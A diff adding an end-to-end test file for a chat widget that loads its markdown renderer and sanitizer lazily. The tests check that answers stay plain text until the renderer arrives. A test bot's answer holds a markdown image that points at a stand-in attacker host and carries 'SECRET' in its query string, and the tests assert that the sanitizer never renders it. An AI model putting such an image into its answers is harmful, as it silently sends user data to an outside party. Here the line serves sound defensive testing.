@@ -1,0 +1,86 @@
+"""The render chunk (markdown and the one sanitizer) loads when the chat first opens; until it
+arrives, and for good if it cannot load, every text is plain text; once it arrives, what was
+shown is drawn again as markdown."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+import pytest
+from playwright.sync_api import Page, Request, Route, expect
+
+from .conftest import Backend, HostServer
+from .helpers import finished_answer, open_chat, send
+
+pytestmark = pytest.mark.e2e
+Backends = Callable[..., Backend]
+RENDER = "**/widget/render.js"
+
+
+def widget_requests(page: Page) -> list[Request]:
+    seen: list[Request] = []
+    page.on("request", lambda r: seen.append(r) if "/widget/" in r.url else None)
+    return seen
+
+
+def test_a_visitor_who_never_opens_the_chat_downloads_only_the_core(
+    page: Page, host: HostServer, backends: Backends
+) -> None:
+    bot = backends("yes_man_placeholder")
+    chunks = widget_requests(page)
+    with page.expect_response(f"{bot.url}/api/config"):
+        page.goto(host.add(bot.url))
+    expect(page.get_by_role("button", name="Open chat")).to_be_visible()
+    page.wait_for_timeout(300)
+    assert chunks == []
+    with page.expect_request(f"{bot.url}/widget/render.js"):
+        open_chat(page)
+    expect(page.locator(".placeholder strong")).to_have_text("Your Personal Yes-Man")
+
+
+def test_texts_are_plain_until_the_render_chunk_arrives(
+    page: Page, host: HostServer, backends: Backends
+) -> None:
+    held: list[Route] = []
+    page.route(RENDER, lambda route: held.append(route))
+    page.goto(host.add(backends("yes_man_placeholder").url))
+    open_chat(page)
+    placeholder = page.locator(".placeholder")
+    expect(placeholder).to_have_text("<strong>Your Personal Yes-Man</strong><br>Ask Me Anything")
+    expect(placeholder.locator("*")).to_have_count(0)
+    assert len(held) == 1
+    held[0].continue_()
+    expect(placeholder.locator("strong")).to_have_text("Your Personal Yes-Man")
+    expect(placeholder).to_have_class("placeholder md")
+
+    # A markdown answer shown before the chunk arrives is drawn again once it does.
+    held.clear()
+    page.goto(host.add(backends("markdown_bot").url))
+    open_chat(page)
+    send(page, "show me")
+    answer = finished_answer(page).locator(".md")
+    expect(answer).to_contain_text("## Results")
+    expect(answer).to_have_class("md plain")
+    expect(answer.locator("*")).to_have_count(0)
+    held[0].continue_()
+    expect(answer.locator("h2")).to_have_text("Results")
+    expect(answer.locator("table")).to_have_count(1)
+    expect(answer.locator("img[src^='https://attacker']")).to_have_count(0)
+
+
+def test_without_the_render_chunk_texts_stay_plain(
+    page: Page, host: HostServer, backends: Backends
+) -> None:
+    page.route(RENDER, lambda route: route.abort())
+    bot = backends("markdown_bot")
+    page.goto(host.add(bot.url))
+    open_chat(page)
+    send(page, "show me")
+    answer = finished_answer(page).locator(".md")
+    expect(answer).to_contain_text("| chatbubble | 1 |")
+    expect(answer).to_contain_text("![tracker](https://attacker.example/pixel.png?d=SECRET)")
+    expect(answer.locator("*")).to_have_count(0)
+    send(page, "again")
+    expect(page.locator(".msg.bot")).to_have_count(2)
+    expect(finished_answer(page).locator(".md")).to_contain_text("## Results")
+    expect(page.locator(".md *")).to_have_count(0)
